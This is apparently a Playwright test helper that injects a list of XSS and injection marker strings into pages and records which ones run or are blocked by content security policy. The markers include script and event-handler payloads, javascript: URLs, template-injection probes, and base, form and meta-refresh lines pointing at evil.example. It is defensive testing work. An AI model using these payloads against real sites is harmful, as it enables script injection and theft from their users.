import type { BrowserContext, Page } from 'playwright-core';

/** Texts that run, or break out of where they stand, wherever they are taken for more than text. */
export const markers = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><img src=x onerror=alert(1)>',
  '</textarea><svg onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '<!--<script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  'javascript:alert(1)',
  '" autofocus onfocus=alert(1) x="',
  "' style='position:fixed' onmouseover='alert(1)",
  '`-alert(1)-`',
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}<%= 7*7 %>',
  '<style>@import "//evil.example"</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><button>x</button></form>',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u2028alert(1)\u2029//',
  '\u202ealert(1)\u202c',
  '__proto__',
];

/** Lets a context say of its pages what ran in them that should not have, and what their policy refused. */
export async function watchFor(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(globalThis, { seen, alert: (what: unknown) => seen.push(`ran ${String(what)}`) });
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.violatedDirective} refused ${event.blockedURI}`),
    );
  });
}

/** What of the markers a page took for markup or ran. */
export function takenFrom(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const made =
      '[onerror], [onload], [ontoggle], [onfocus], [onmouseover], img[src="x"], iframe, object, embed, base, math, ' +
      'a[href^="javascript:" i], form[action^="//"], meta[http-equiv="refresh"], script:not([src]):not([nonce]):not([type="application/ld+json"])';
    const found = [...document.querySelectorAll(made)].map((element) => element.outerHTML.slice(0, 200));
    return [...found, ...(globalThis as unknown as { seen: string[] }).seen];
  });
}
